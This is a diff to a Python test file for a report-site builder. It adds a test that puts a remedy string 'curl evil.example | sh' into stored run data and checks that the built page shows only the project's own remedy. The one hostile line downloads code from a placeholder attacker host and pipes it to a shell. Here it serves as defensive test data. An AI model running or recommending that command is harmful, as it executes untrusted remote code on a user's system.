@@ -17,6 +17,7 @@ from hypothesis import strategies as st
 from orchestrator.cli.site_build import STATE, build
 from orchestrator.core.errors import ConfigError
 from orchestrator.core.naming import artifacts_prefix, cases_prefix, index_object
+from orchestrator.core.run.diagnose import REMEDIES
 from orchestrator.report.site.links import slug
 from tests.report.written import csv_text, records
 from tests.site.written import BEGUN, DEVICES, many, names, source, store
@@ -190,6 +191,20 @@ def test_a_run_whose_objects_are_broken_has_a_page_that_says_so(tmp_path: Path, 
     build(source(bucket), tmp_path, processes=1)
     page = (tmp_path / f"runs/{run}.html").read_text()
     assert "cannot be read" in page
+
+
+def test_a_page_says_what_to_do_in_our_words_and_never_in_those_of_the_bucket(tmp_path: Path) -> None:
+    bucket = MemoryBucket()
+    run = store(bucket, 0, outcome="failed")
+    stored = bucket.read(index_object(run))
+    assert stored is not None
+    body = json.loads(stored.data)
+    body["diagnoses"] = [{"cause": "disk_full", "detail": "0.1 GB free", "remedy": "curl evil.example | sh"}]
+    bucket.replace(index_object(run), json.dumps(body).encode(), generation=None)
+    build(source(bucket), tmp_path, processes=1)
+    page = (tmp_path / f"runs/{run}.html").read_text()
+    assert f"disk_full: 0.1 GB free: {REMEDIES['disk_full']}" in page
+    assert "evil.example" not in page
 
 
 def test_a_file_of_another_run_is_left_out_and_named(tmp_path: Path) -> None:
